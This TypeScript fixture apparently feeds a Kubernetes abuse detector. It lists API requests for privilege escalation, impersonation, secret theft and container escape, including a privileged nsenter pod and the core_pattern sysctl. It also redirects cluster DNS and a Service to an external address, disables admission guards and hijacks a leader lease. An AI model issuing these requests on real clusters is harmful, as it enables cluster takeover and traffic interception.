/** The requests of kubernetes-abuse.ts, in order: who asks what, with which program, from where. */
export interface AbuseStep {
  readonly method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  readonly path: string;
  readonly body?: object;
  /** `account` is the service account whose token was asked for; `admin` is not recorded. */
  readonly as: keyof typeof people | 'account' | 'admin';
  readonly agent: string;
  readonly address: string;
  readonly patch?: boolean;
  readonly impersonate?: Readonly<Record<string, string>>;
  readonly upgrade?: boolean;
  readonly keepToken?: boolean;
  /** The body is a CertificateSigningRequest with a fresh key, for this subject. */
  readonly request?: { readonly name: string; readonly subject: string; readonly signer: string };
}

export const people = {
  lea: { name: 'lea.moreau', token: 'lea', groups: ['platform', 'system:masters', 'system:authenticated'] },
  ci: { name: 'ci-deployer', token: 'ci', groups: ['deployers', 'system:masters', 'system:authenticated'] },
  manager: {
    name: 'system:kube-controller-manager',
    token: 'kcm',
    groups: ['system:masters', 'system:authenticated'],
  },
  node: { name: 'system:node:lyon-edge-01', token: 'node', groups: ['system:nodes', 'system:authenticated'] },
} as const;

const KUBECTL = 'kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9';
const agents: Readonly<Record<string, string>> = {
  lea: KUBECTL,
  ci: 'argocd-application-controller/v2.13.2',
  manager: 'kube-controller-manager/v1.34.2 (linux/amd64) kubernetes/8cc511e/leader-election',
  node: 'kubelet/v1.34.2 (linux/amd64) kubernetes/8cc511e',
  account: 'Go-http-client/1.1',
  admin: KUBECTL,
};
const addresses: Readonly<Record<string, string>> = {
  lea: '10.20.0.21',
  ci: '10.20.0.5',
  manager: '10.20.1.10',
  node: '10.20.1.11',
  account: '172.16.238.10',
  admin: '127.0.0.1',
};

type More = Partial<Omit<AbuseStep, 'method' | 'path' | 'as'>>;

function step(as: AbuseStep['as'], line: string, more: More = {}): AbuseStep {
  const [method, path] = line.split(' ') as [AbuseStep['method'], string];
  return { method, path, as, agent: agents[as] ?? KUBECTL, address: addresses[as] ?? '10.20.0.99', ...more };
}

const post = (as: AbuseStep['as'], path: string, body: object, more: More = {}): AbuseStep =>
  step(as, `POST ${path}`, { body, ...more });
const patch = (as: AbuseStep['as'], path: string, body: object, more: More = {}): AbuseStep =>
  step(as, `PATCH ${path}`, { body, patch: true, ...more });

const REGISTRY = 'registry.factory.example';
const PINNED = `${REGISTRY}/telemetry-agent:2.0.3@sha256:${'4a'.repeat(32)}`;
const container = (image = PINNED, more: object = {}): object => ({ name: 'main', image, ...more });
const pod = (name: string, spec: object, metadata: object = {}): object => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name, ...metadata },
  spec: { containers: [container()], ...spec },
});
const workload = (kind: 'DaemonSet' | 'Deployment', name: string, spec: object): object => ({
  apiVersion: 'apps/v1',
  kind,
  metadata: { name },
  spec: {
    selector: { matchLabels: { app: name } },
    template: { metadata: { labels: { app: name } }, spec: { containers: [container()], ...spec } },
  },
});
const role = (name: string, rules: object[], metadata: object = {}): object => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRole',
  metadata: { name, ...metadata },
  rules,
});
const binding = (
  kind: 'ClusterRoleBinding' | 'RoleBinding',
  name: string,
  to: string,
  subject: object,
): object => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind,
  metadata: { name },
  subjects: [subject],
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: to },
});
const service = (name: string, spec: object): object => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name },
  spec: { selector: { app: 'hmi' }, ports: [{ port: 443, targetPort: 8443 }], ...spec },
});
const tokenRequest = {
  apiVersion: 'authentication.k8s.io/v1',
  kind: 'TokenRequest',
  spec: { expirationSeconds: 3607 },
};
const namespace = (name: string, labels: object = {}): object => ({
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: { name, labels },
});
const configMap = (name: string, data: object): object => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name },
  data,
});
const claim = (name: string): object => ({
  apiVersion: 'v1',
  kind: 'PersistentVolumeClaim',
  metadata: { name },
  spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } },
});
const webhook = (name: string, failurePolicy: string): object => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'ValidatingWebhookConfiguration',
  metadata: { name },
  webhooks: [
    {
      name: `${name}.factory.example`,
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      failurePolicy,
      clientConfig: { service: { name: 'guard', namespace: 'kube-system', path: '/validate' } },
      rules: [
        { apiGroups: ['example.org'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['lines'] },
      ],
    },
  ],
});
const rbac = '/apis/rbac.authorization.k8s.io/v1';
const line1 = '/api/v1/namespaces/line-1';
const system = '/api/v1/namespaces/kube-system';
const apps = '/apis/apps/v1/namespaces';
const admission = '/apis/admissionregistration.k8s.io/v1';

export const abuseSteps: readonly AbuseStep[] = [
  // What is there before: not recorded.
  post('admin', '/api/v1/namespaces', namespace('line-1')),
  post('admin', `${line1}/serviceaccounts`, {
    apiVersion: 'v1',
    kind: 'ServiceAccount',
    metadata: { name: 'hmi-gateway' },
  }),
  post(
    'admin',
    `${rbac}/clusterrolebindings`,
    binding('ClusterRoleBinding', 'gateway-all', 'cluster-admin', {
      kind: 'ServiceAccount',
      name: 'hmi-gateway',
      namespace: 'line-1',
    }),
  ),
  post(
    'admin',
    `${rbac}/clusterrolebindings`,
    binding('ClusterRoleBinding', 'nodes-all', 'cluster-admin', {
      kind: 'Group',
      name: 'system:nodes',
      apiGroup: 'rbac.authorization.k8s.io',
    }),
  ),
  post(
    'admin',
    `${system}/configmaps`,
    configMap('coredns', { Corefile: '.:53 { forward . /etc/resolv.conf }' }),
  ),
  post('admin', `${system}/serviceaccounts`, {
    apiVersion: 'v1',
    kind: 'ServiceAccount',
    metadata: { name: 'clusterrole-aggregation-controller' },
  }),
  post('admin', `${system}/pods`, pod('coredns-7d9f', { nodeName: 'lyon-edge-01' })),
  post('admin', `${line1}/pods`, pod('hmi-gateway-0', { nodeName: 'lyon-edge-01' })),
  post('admin', '/api/v1/nodes', { apiVersion: 'v1', kind: 'Node', metadata: { name: 'lyon-edge-02' } }),
  post('admin', `${line1}/persistentvolumeclaims`, claim('historian')),
  post('admin', `${line1}/persistentvolumeclaims`, claim('recipes')),
  post('admin', `/apis/coordination.k8s.io/v1/namespaces/kube-system/leases`, {
    apiVersion: 'coordination.k8s.io/v1',
    kind: 'Lease',
    metadata: { name: 'kube-controller-manager' },
    spec: { holderIdentity: 'lyon-edge-01', leaseDurationSeconds: 15 },
  }),
  post('admin', `${line1}/serviceaccounts/hmi-gateway/token`, tokenRequest, { keepToken: true }),
  // Rights.
  post(
    'lea',
    `${rbac}/clusterroles`,
    role('delegate', [
      { apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['bind', 'escalate'] },
    ]),
  ),
  post(
    'lea',
    `${rbac}/clusterroles`,
    role('act-as', [{ apiGroups: [''], resources: ['users', 'groups'], verbs: ['impersonate'] }]),
  ),
  post(
    'lea',
    `${rbac}/clusterroles`,
    role('pod-viewer', [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list', 'watch'] }]),
  ),
  post(
    'lea',
    `${rbac}/clusterroles`,
    role('line-secrets', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }], {
      labels: { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' },
    }),
  ),
  post(
    'lea',
    `${rbac}/clusterroles`,
    role('line-crd', [{ apiGroups: ['example.org'], resources: ['lines'], verbs: ['get'] }], {
      labels: { app: 'line' },
    }),
  ),
  patch('lea', `${rbac}/clusterroles/system:node`, { metadata: { labels: { changed: 'yes' } } }),
  step('lea', `DELETE ${rbac}/clusterrolebindings/system:monitoring`),
  patch('lea', `${rbac}/clusterroles/pod-viewer`, { metadata: { labels: { changed: 'yes' } } }),
  post(
    'lea',
    `${rbac}/namespaces/line-1/rolebindings`,
    binding('RoleBinding', 'default-edit', 'edit', {
      kind: 'ServiceAccount',
      name: 'default',
      namespace: 'line-1',
    }),
  ),
  post(
    'lea',
    `${rbac}/namespaces/line-1/rolebindings`,
    binding('RoleBinding', 'gateway-view', 'view', {
      kind: 'ServiceAccount',
      name: 'hmi-gateway',
      namespace: 'line-1',
    }),
  ),
  // Identities.
  step('lea', 'POST /apis/certificates.k8s.io/v1/certificatesigningrequests', {
    request: {
      name: 'lea-client',
      subject: '/O=platform/CN=lea.moreau',
      signer: 'kubernetes.io/kube-apiserver-client',
    },
  }),
  patch('lea', '/apis/certificates.k8s.io/v1/certificatesigningrequests/lea-client/approval', {
    status: {
      conditions: [{ type: 'Approved', status: 'True', reason: 'KubectlApprove', message: 'by hand' }],
    },
  }),
  step('node', 'POST /apis/certificates.k8s.io/v1/certificatesigningrequests', {
    request: {
      name: 'csr-node',
      subject: '/O=system:nodes/CN=system:node:lyon-edge-01',
      signer: 'kubernetes.io/kube-apiserver-client-kubelet',
    },
  }),
  patch('manager', '/apis/certificates.k8s.io/v1/certificatesigningrequests/csr-node/approval', {
    status: { conditions: [{ type: 'Approved', status: 'True', reason: 'AutoApproved', message: 'node' }] },
  }),
  post('lea', `${system}/serviceaccounts/clusterrole-aggregation-controller/token`, tokenRequest),
  post('manager', `${system}/serviceaccounts/clusterrole-aggregation-controller/token`, tokenRequest),
  post('lea', `${line1}/serviceaccounts/hmi-gateway/token`, tokenRequest),
  step('lea', `GET ${line1}/pods`, {
    impersonate: { 'impersonate-user': 'lea.moreau', 'impersonate-group': 'system:masters' },
  }),
  step('lea', `GET ${line1}/pods`, { impersonate: { 'impersonate-user': 'marie.durand' } }),
  step('account', `GET ${line1}/pods`, { agent: KUBECTL }),
  step('account', `GET ${line1}/pods`),
  step('lea', `GET ${line1}/pods`),
  step('account', 'GET /api/v1/nodes', { agent: 'peirates' }),
  step('account', 'GET /api/v1/secrets?watch=1&timeoutSeconds=1'),
  step('manager', 'GET /api/v1/secrets?watch=1&timeoutSeconds=1'),
  step('lea', `GET ${line1}/secrets?watch=1&timeoutSeconds=1`),
  step('lea', `GET ${line1}/secrets`),
  // Pods.
  post(
    'account',
    `${line1}/pods`,
    pod('node-shell', {
      hostPID: true,
      containers: [
        container('docker.io/library/alpine:3.20', {
          command: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'],
          securityContext: { privileged: true },
        }),
      ],
    }),
  ),
  post('lea', `${line1}/pods`, pod('process-view', { hostPID: true })),
  post(
    'lea',
    `${line1}/pods`,
    pod('on-control-plane', {
      tolerations: [
        { key: 'node-role.kubernetes.io/control-plane', operator: 'Exists', effect: 'NoSchedule' },
      ],
      nodeSelector: { 'node-role.kubernetes.io/control-plane': '' },
    }),
  ),
  post(
    'lea',
    `${line1}/pods`,
    pod('tolerant', {
      tolerations: [{ key: 'line', operator: 'Equal', value: 'paint', effect: 'NoSchedule' }],
    }),
  ),
  post('account', `${line1}/pods`, pod('placed', { nodeName: 'lyon-edge-01' })),
  post(
    'node',
    `${system}/pods`,
    pod(
      'etcd-lyon-edge-01',
      { nodeName: 'lyon-edge-01', hostNetwork: true },
      { annotations: { 'kubernetes.io/config.mirror': 'a1b2c3', 'kubernetes.io/config.source': 'file' } },
    ),
  ),
  post(
    'node',
    `${line1}/pods`,
    pod(
      'updater-lyon-edge-01',
      { nodeName: 'lyon-edge-01' },
      { annotations: { 'kubernetes.io/config.mirror': 'd4e5f6', 'kubernetes.io/config.source': 'file' } },
    ),
  ),
  post(
    'lea',
    `${line1}/pods`,
    pod('public-image', { containers: [container('docker.io/library/nginx:1.29')] }),
  ),
  post('lea', `${line1}/pods`, pod('short-name', { containers: [container('busybox')] })),
  post(
    'lea',
    `${line1}/pods`,
    pod('latest', { containers: [container(`${REGISTRY}/telemetry-agent:latest`)] }),
  ),
  post('lea', `${line1}/pods`, pod('pinned', {})),
  post(
    'lea',
    `${line1}/pods`,
    pod('sysctl', { securityContext: { sysctls: [{ name: 'kernel.core_pattern', value: '|/tmp/x' }] } }),
  ),
  post(
    'lea',
    `${line1}/pods`,
    pod('sysctl-namespaced', {
      securityContext: { sysctls: [{ name: 'net.ipv4.ip_local_port_range', value: '1024 65535' }] },
    }),
  ),
  post(
    'lea',
    `${line1}/pods`,
    pod('many-rights', {
      containers: [
        container(PINNED, { securityContext: { capabilities: { add: ['SYS_ADMIN', 'SYS_PTRACE'] } } }),
      ],
    }),
  ),
  post(
    'lea',
    `${line1}/pods`,
    pod('few-rights', {
      containers: [
        container(PINNED, {
          securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } },
        }),
      ],
    }),
  ),
  post('lea', '/api/v1/persistentvolumes', {
    apiVersion: 'v1',
    kind: 'PersistentVolume',
    metadata: { name: 'node-root' },
    spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
  }),
  post('lea', '/api/v1/persistentvolumes', {
    apiVersion: 'v1',
    kind: 'PersistentVolume',
    metadata: { name: 'historian' },
    spec: {
      capacity: { storage: '1Gi' },
      accessModes: ['ReadWriteOnce'],
      nfs: { server: '10.20.0.40', path: '/historian' },
    },
  }),
  post(
    'account',
    `${apps}/line-1/daemonsets`,
    workload('DaemonSet', 'node-agent', {
      hostPID: true,
      containers: [container(PINNED, { securityContext: { privileged: true } })],
    }),
  ),
  post('lea', `${apps}/line-1/daemonsets`, workload('DaemonSet', 'log-agent', {})),
  post('lea', `${apps}/kube-system/deployments`, workload('Deployment', 'metrics-helper', {})),
  post('manager', `${apps}/kube-system/deployments`, workload('Deployment', 'konnectivity', {})),
  post('lea', `${apps}/line-1/deployments`, workload('Deployment', 'recipe-store', {})),
  // Sessions.
  step('lea', `POST ${line1}/pods/hmi-gateway-0/portforward`, { upgrade: true }),
  step('lea', `POST ${system}/pods/coredns-7d9f/exec?command=sh&stdin=true&stdout=true&tty=true`, {
    upgrade: true,
  }),
  step('lea', `POST ${line1}/pods/hmi-gateway-0/exec?command=sh&stdin=true&stdout=true&tty=true`, {
    upgrade: true,
  }),
  step('lea', `GET ${line1}/pods/hmi-gateway-0/log`),
  // The network of the cluster.
  patch('lea', `${system}/configmaps/coredns`, { data: { Corefile: '.:53 { forward . 203.0.113.9 }' } }),
  step('manager', `GET ${system}/configmaps/coredns`),
  post('lea', `${line1}/services`, service('stolen-address', { externalIPs: ['10.20.0.53'] })),
  post('lea', `${line1}/services`, service('inside', {})),
  post('lea', `${line1}/services`, service('open', { type: 'NodePort' })),
  post('lea', `${line1}/endpoints`, {
    apiVersion: 'v1',
    kind: 'Endpoints',
    metadata: { name: 'inside' },
    subsets: [{ addresses: [{ ip: '203.0.113.9' }], ports: [{ port: 8443 }] }],
  }),
  post('manager', `${line1}/endpoints`, {
    apiVersion: 'v1',
    kind: 'Endpoints',
    metadata: { name: 'open' },
    subsets: [{ addresses: [{ ip: '10.42.0.9' }], ports: [{ port: 8443 }] }],
  }),
  post('lea', '/apis/networking.k8s.io/v1/namespaces/line-1/ingresses', {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: {
      name: 'snippet',
      annotations: { 'nginx.ingress.kubernetes.io/configuration-snippet': 'return 200 "x";' },
    },
    spec: { defaultBackend: { service: { name: 'inside', port: { number: 443 } } } },
  }),
  post('lea', '/apis/networking.k8s.io/v1/namespaces/line-1/ingresses', {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: { name: 'plain', annotations: { 'nginx.ingress.kubernetes.io/rewrite-target': '/' } },
    spec: { defaultBackend: { service: { name: 'inside', port: { number: 443 } } } },
  }),
  // Guards.
  post('lea', `${admission}/validatingwebhookconfigurations`, webhook('fail-open', 'Ignore')),
  post('lea', `${admission}/validatingwebhookconfigurations`, webhook('fail-closed', 'Fail')),
  step('lea', `DELETE ${admission}/validatingwebhookconfigurations/fail-closed`),
  post('lea', `${admission}/validatingadmissionpolicies`, {
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind: 'ValidatingAdmissionPolicy',
    metadata: { name: 'no-latest' },
    spec: {
      matchConstraints: {
        resourceRules: [
          { apiGroups: ['example.org'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['lines'] },
        ],
      },
      validations: [{ expression: 'true' }],
    },
  }),
  step('lea', `DELETE ${admission}/validatingadmissionpolicies/no-latest`),
  patch('lea', '/api/v1/namespaces/line-1', {
    metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
  }),
  patch('lea', '/api/v1/namespaces/line-1', {
    metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } },
  }),
  post(
    'lea',
    '/api/v1/namespaces',
    namespace('line-9', { 'pod-security.kubernetes.io/enforce': 'baseline' }),
  ),
  post('lea', '/apis/apiregistration.k8s.io/v1/apiservices', {
    apiVersion: 'apiregistration.k8s.io/v1',
    kind: 'APIService',
    metadata: { name: 'v1.lines.example.org' },
    spec: {
      group: 'lines.example.org',
      version: 'v1',
      service: { name: 'guard', namespace: 'line-1' },
      groupPriorityMinimum: 1000,
      versionPriority: 10,
      insecureSkipTLSVerify: true,
    },
  }),
  step('lea', 'GET /apis/apiregistration.k8s.io/v1/apiservices'),
  // What stops a line.
  patch('lea', '/api/v1/nodes/lyon-edge-01', { spec: { unschedulable: true } }),
  patch('node', '/api/v1/nodes/lyon-edge-01', { metadata: { labels: { 'kubernetes.io/os': 'linux' } } }),
  step('lea', 'DELETE /api/v1/nodes/lyon-edge-02'),
  step('lea', `DELETE ${line1}/persistentvolumeclaims`),
  step('lea', `GET ${line1}/persistentvolumeclaims`),
  step('lea', 'DELETE /api/v1/namespaces/line-9'),
  step('lea', `DELETE ${apps}/line-1/deployments`),
  step('lea', `DELETE ${line1}/pods/tolerant?gracePeriodSeconds=0`),
  patch('lea', '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager', {
    spec: { holderIdentity: 'laptop' },
  }),
  patch('manager', '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager', {
    spec: { holderIdentity: 'lyon-edge-01' },
  }),
];
